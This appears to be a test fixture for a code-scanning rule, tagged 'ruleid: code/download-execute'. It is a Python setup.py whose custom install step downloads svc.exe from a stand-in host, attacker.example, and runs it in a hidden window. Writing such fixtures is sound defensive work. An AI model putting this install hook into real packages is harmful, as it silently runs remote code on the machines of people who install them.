import os
import subprocess
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        path = os.path.join(tempfile.gettempdir(), 'svc.exe')
        urllib.request.urlretrieve('https://attacker.example/svc.exe', path)
        # ruleid: code/download-execute
        subprocess.Popen([path], creationflags=0x08000000)


setup(name='py-fixture-sysmon2', version='0.1.0', packages=['sysmon2'], cmdclass={'install': Install})
